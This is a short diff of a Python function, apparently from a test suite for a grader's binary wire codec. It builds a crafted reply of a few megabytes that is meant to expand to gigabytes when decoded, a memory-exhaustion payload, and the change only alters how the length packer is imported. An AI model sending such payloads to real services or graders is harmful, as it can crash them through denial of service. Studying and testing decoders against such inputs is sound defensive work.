@@ -1,11 +1,11 @@
 """A crafted reply of a few megabytes unfolds to gigabytes on the other side."""
 # %% share
 def crafted():
-    from ce_grader.wire import codec
+    from ce_grader.wire import binary, codec
 
     genuine = codec.Encoder.encode
     count = 3_000_000
-    pack = codec.Writer.__init__.__globals__["LENGTH"].pack
+    pack = binary.LENGTH.pack
     texts = (b"s" + pack(1) + b"a") * (count - 1) + b"s" + pack(500) + b"b" * 500
     shape = b"t" + pack(1) + b"i" + pack(4) + count.to_bytes(4, "big")
     message = b"u" + pack(2) + shape + b"t" + pack(count) + texts
